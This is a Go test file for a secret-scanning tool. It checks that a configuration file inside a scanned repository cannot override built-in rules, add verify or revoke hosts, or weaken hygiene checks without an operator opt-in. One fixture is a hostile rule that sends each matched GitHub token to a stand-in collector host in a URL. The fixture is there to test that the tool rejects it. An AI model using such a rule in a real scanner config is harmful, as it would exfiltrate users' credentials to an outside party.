package rules_test

import (
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/tokenward/tokenward/hygiene"
	"github.com/tokenward/tokenward/rules"
)

// hostileVerify is a rule of a built-in id whose verify spec sends every secret
// it finds to a host of the config author's choosing.
const hostileVerify = `[[rule]]
id = "github-pat"
description = "GitHub token"
regex = '''ghp_[A-Za-z0-9]{36}'''
[rule.verify]
base_url = "https://collector.invalid"
[[rule.verify.step]]
url = "{{base}}/t?s={{secret}}"
[[rule.verify.step.match]]
status = [200]
result = "live"
`

const newRuleVerify = `[[rule]]
id = "acme-key"
regex = '''acme_[a-z0-9]{20}'''
[rule.verify]
base_url = "https://api.acme.invalid"
[[rule.verify.step]]
url = "{{base}}/me"
headers = { Authorization = "Bearer {{secret}}" }
[[rule.verify.step.match]]
status = [200]
result = "live"
`

const newRuleRevoke = newRuleVerify + `[rule.revoke]
base_url = "https://api.acme.invalid"
[[rule.revoke.step]]
method = "DELETE"
url = "{{base}}/key"
headers = { Authorization = "Bearer {{secret}}" }
`

func writeConfig(t *testing.T, content string) string {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, rules.ConfigFileName), []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	return dir
}

// TestRepoConfigMayNotWeaken: a configuration found in the scanned tree may not
// replace built-in rules, name verify/revoke hosts, or switch checks off; each
// attempt is an error naming the file, line, key and the opt-in.
func TestRepoConfigMayNotWeaken(t *testing.T) {
	cases := []struct {
		name, config string
		want         []string // substrings of the error
	}{
		{"replace built-in id", hostileVerify, []string{rules.ConfigFileName + ":1:", `rule "github-pat"`, "replaces the built-in rule", "--trust-repo-config"}},
		{"replace built-in id, no verify", "[[rule]]\nid = \"github-pat\"\nregex = '''ghp_[a-z]{36}'''\n", []string{`rule "github-pat"`, "rule.id"}},
		{"verify host on a new rule", newRuleVerify, []string{rules.ConfigFileName + ":1:", `rule "acme-key"`, "rule.verify", "--trust-repo-config", "--config"}},
		{"revoke host on a new rule", newRuleRevoke, []string{`rule "acme-key"`, "rule.revoke"}},
		{"disable built-in rule", "\n\ndisabled = [\"github-pat\"]\n", []string{rules.ConfigFileName + ":3:", "disabled", `"github-pat"`, "--trust-repo-config"}},
		{"disable hygiene check via disabled", "disabled = [\"netrc-password\"]\n", []string{"disabled", `"netrc-password"`}},
		{"drop built-in rules", "[extend]\nbuiltin = false\n", []string{rules.ConfigFileName + ":2:", "extend.builtin", "--trust-repo-config"}},
		{"hygiene off", "[hygiene]\nenabled = false\n", []string{rules.ConfigFileName + ":2:", "hygiene.enabled"}},
		{"hygiene disable list", "[hygiene]\ndisable = [\"jwt-expired\"]\n", []string{"hygiene.disable", "jwt-expired"}},
		{"hygiene per-check switch", "[hygiene]\nnetrc-password = false\n", []string{"hygiene.netrc-password"}},
		{"hygiene longer jwt lifetime", "[hygiene]\nmax_jwt_lifetime = \"10y\"\n", []string{"hygiene.max_jwt_lifetime"}},
		{"hygiene client side raise off", "[hygiene]\nclient_side_raise = false\n", []string{"hygiene.client_side_raise"}},
		{"hygiene smaller config size", "[hygiene]\nmax_config_size = \"1KB\"\n", []string{"hygiene.max_config_size"}},
		{"hygiene lower severity", "[hygiene.severity]\nnetrc-password = \"info\"\n", []string{"hygiene.severity.netrc-password"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			dir := writeConfig(t, c.config)
			_, err := rules.Load(rules.LoadOptions{Hygiene: hygiene.Policy{}, Root: dir})
			if err == nil {
				t.Fatalf("untrusted config loaded; want an error")
			}
			var ue *rules.UntrustedError
			if !errors.As(err, &ue) {
				t.Errorf("error %T %v is not an *rules.UntrustedError", err, err)
			}
			for _, w := range c.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q lacks %q", err, w)
				}
			}
			// The operator's opt-ins load the same file.
			for _, opts := range []rules.LoadOptions{
				{Root: dir, TrustRepoConfig: true},
				{ConfigPath: filepath.Join(dir, rules.ConfigFileName)},
			} {
				if _, err := rules.Load(opts); err != nil {
					t.Errorf("trusted (%+v): %v", opts, err)
				}
			}
		})
	}
}

// TestRepoConfigMayAdd: rules without verify/revoke, allow entries, disabling the
// file's own rules and tightening hygiene are fine without an opt-in.
func TestRepoConfigMayAdd(t *testing.T) {
	cfg := `disabled = ["acme-old"]
[[rule]]
id = "acme-key"
regex = '''acme_[a-z0-9]{20}'''
[[rule]]
id = "acme-old"
regex = '''acmeold_[a-z0-9]{20}'''
[[allow]]
paths = ['''(^|/)vendor/''']
[hygiene]
enabled = true
enable = ["jwt-expired"]
max_jwt_lifetime = "7d"
[hygiene.severity]
jwt-expired = "high"
`
	set, err := rules.Load(rules.LoadOptions{Hygiene: hygiene.Policy{}, Root: writeConfig(t, cfg)})
	if err != nil {
		t.Fatal(err)
	}
	b, _ := rules.Builtin()
	ids := map[string]bool{}
	for _, r := range set.Rules {
		ids[r.ID] = true
	}
	if !ids["acme-key"] || ids["acme-old"] || !ids["github-pat"] || len(set.Rules) != len(b.Rules)+1 || len(set.Allow) != 1 {
		t.Errorf("got %d rules (acme-key %v, acme-old %v, github-pat %v), %d allow entries", len(set.Rules), ids["acme-key"], ids["acme-old"], ids["github-pat"], len(set.Allow))
	}
}

// TestTrustedConfigReplacesBuiltin: with the opt-in, a rule of a built-in id
// replaces the built-in one (and keeps its verify spec).
func TestTrustedConfigReplacesBuiltin(t *testing.T) {
	dir := writeConfig(t, hostileVerify)
	set, err := rules.Load(rules.LoadOptions{Hygiene: hygiene.Policy{}, Root: dir, TrustRepoConfig: true})
	if err != nil {
		t.Fatal(err)
	}
	i := slices.IndexFunc(set.Rules, func(r *rules.Rule) bool { return r.ID == "github-pat" })
	if i < 0 || set.Rules[i].Builtin() || set.Rules[i].Verify == nil || set.Rules[i].Verify.BaseURL != "https://collector.invalid" {
		t.Fatalf("github-pat not replaced by the trusted config")
	}
}

// TestRepoConfigBytes: a config handed over as bytes (git --range: the file at
// BASE) is used instead of the root's file, is untrusted, and an absent one means
// the built-in rules even when the root holds a file.
func TestRepoConfigBytes(t *testing.T) {
	dir := writeConfig(t, "[extend]\nbuiltin = false\n[[rule]]\nid = \"x-y\"\nregex = '''abcdef'''\n")
	set, err := rules.Load(rules.LoadOptions{Hygiene: hygiene.Policy{}, Root: dir, RepoConfig: &rules.RepoConfig{Name: "BASE:.tokenward.toml"}})
	if err != nil {
		t.Fatal(err)
	}
	b, _ := rules.Builtin()
	if len(set.Rules) != len(b.Rules) {
		t.Errorf("absent config at BASE: %d rules, want the %d built-in ones", len(set.Rules), len(b.Rules))
	}
	set, err = rules.Load(rules.LoadOptions{Hygiene: hygiene.Policy{}, Root: dir, RepoConfig: &rules.RepoConfig{Name: "BASE:.tokenward.toml", Data: []byte("[[rule]]\nid = \"acme-key\"\nregex = '''acme_[a-z0-9]{20}'''\n")}})
	if err != nil {
		t.Fatal(err)
	}
	if len(set.Rules) != len(b.Rules)+1 {
		t.Errorf("config at BASE: %d rules, want %d", len(set.Rules), len(b.Rules)+1)
	}
	_, err = rules.Load(rules.LoadOptions{Hygiene: hygiene.Policy{}, Root: dir, RepoConfig: &rules.RepoConfig{Name: "abc123:.tokenward.toml", Data: []byte("disabled = [\"github-pat\"]\n")}})
	if err == nil || !strings.Contains(err.Error(), "abc123:.tokenward.toml:1:") {
		t.Errorf("untrusted config at BASE: %v", err)
	}
	// --config wins over the repository's file.
	explicit := filepath.Join(t.TempDir(), "explicit.toml")
	if err := os.WriteFile(explicit, []byte("disabled = [\"github-pat\"]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	set, err = rules.Load(rules.LoadOptions{Hygiene: hygiene.Policy{}, ConfigPath: explicit, Root: dir, RepoConfig: &rules.RepoConfig{Name: "x", Data: []byte("[extend]\nbuiltin = false\n")}})
	if err != nil || len(set.Rules) != len(b.Rules)-1 {
		t.Errorf("--config with RepoConfig: %v", err)
	}
}

// TestConfigRoot: a scan of a subdirectory (or a file) of a repository finds the
// configuration at the repository's top; outside a repository, the path itself.
func TestConfigRoot(t *testing.T) {
	top := t.TempDir()
	for _, d := range []string{".git", "a/b", "sub/.git-not"} {
		if err := os.MkdirAll(filepath.Join(top, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(top, "a/b/f.txt"), []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	// A submodule or linked worktree has a .git file.
	if err := os.MkdirAll(filepath.Join(top, "mod/x"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(top, "mod/.git"), []byte("gitdir: ../.git/modules/mod\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	outside := t.TempDir()
	if err := os.MkdirAll(filepath.Join(outside, "d"), 0o755); err != nil {
		t.Fatal(err)
	}
	cases := []struct{ path, want string }{
		{top, top},
		{filepath.Join(top, "a"), top},
		{filepath.Join(top, "a/b"), top},
		{filepath.Join(top, "a/b/f.txt"), top},
		{filepath.Join(top, "mod/x"), filepath.Join(top, "mod")},
		{filepath.Join(outside, "d"), filepath.Join(outside, "d")},
		{filepath.Join(top, "missing/dir"), top},
	}
	for _, c := range cases {
		if got := rules.ConfigRoot(c.path); got != c.want {
			t.Errorf("rules.ConfigRoot(%s) = %s, want %s", c.path, got, c.want)
		}
	}
	// Relative paths come back relative... or at least pointing at the same place.
	wd, _ := os.Getwd()
	defer os.Chdir(wd)
	if err := os.Chdir(filepath.Join(top, "a")); err != nil {
		t.Fatal(err)
	}
	if got, _ := filepath.Abs(rules.ConfigRoot("b")); got != top {
		t.Errorf("rules.ConfigRoot(b) from a/ = %s, want %s", got, top)
	}
}

// TestUnknownKeyPointsAtShippedDocs: the hint names documents that exist in the
// repository (DESIGN.md is not one of them).
func TestUnknownKeyPointsAtShippedDocs(t *testing.T) {
	_, err := rules.Parse("c.toml", []byte("[[rule]]\nid = \"x-y\"\nregex = '''abcdef'''\nregexx = 'a'\n"))
	if err == nil {
		t.Fatal("unknown key accepted")
	}
	if strings.Contains(err.Error(), "DESIGN.md") {
		t.Errorf("error points at DESIGN.md, which the repository does not ship: %v", err)
	}
	for _, doc := range []string{"README.md", "verify/README.md"} {
		if !strings.Contains(err.Error(), doc) {
			t.Errorf("error %q does not name %s", err, doc)
		}
		if _, err := os.Stat(filepath.Join("..", doc)); err != nil {
			t.Errorf("the hint names %s: %v", doc, err)
		}
	}
	// Nested hygiene tables are decoded by DecodeHygiene, not reported unknown.
	if _, err := rules.Parse("c.toml", []byte("[hygiene.severity]\njwt-expired = \"high\"\n")); err != nil {
		t.Errorf("[hygiene.severity]: %v", err)
	}
}

// FuzzLoadUntrusted: an untrusted configuration of any content loads or fails
// with an error naming the file; never a panic, and never a set holding a rule
// that replaced a built-in one or carries a verify/revoke spec.
func FuzzLoadUntrusted(f *testing.F) {
	f.Add([]byte(hostileVerify))
	f.Add([]byte(newRuleRevoke))
	f.Add([]byte("disabled = [\"github-pat\", \"netrc-password\"]\n[extend]\nbuiltin = false\n"))
	f.Add([]byte("[hygiene]\nenabled = false\nmax_jwt_lifetime = \"10y\"\n[hygiene.severity]\njwt-expired = \"info\"\n"))
	f.Add([]byte("[[rule]]\nid = \"acme-key\"\nregex = '''acme_[a-z0-9]{20}'''\n[[allow]]\npaths = ['x']\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		set, err := rules.Load(rules.LoadOptions{Hygiene: hygiene.Policy{}, RepoConfig: &rules.RepoConfig{Name: "fuzz.toml", Data: data}})
		if err != nil {
			if !strings.HasPrefix(err.Error(), "fuzz.toml") {
				t.Fatalf("error does not name the file: %q", err)
			}
			return
		}
		for _, r := range set.Rules {
			if !r.Builtin() && (r.Verify != nil || r.Revoke != nil) {
				t.Fatalf("untrusted rule %q kept a verify/revoke spec", r.ID)
			}
		}
		b, _ := rules.Builtin()
		for _, br := range b.Rules {
			if !slices.ContainsFunc(set.Rules, func(r *rules.Rule) bool { return r == br }) {
				t.Fatalf("built-in rule %q dropped or replaced by an untrusted config", br.ID)
			}
		}
	})
}
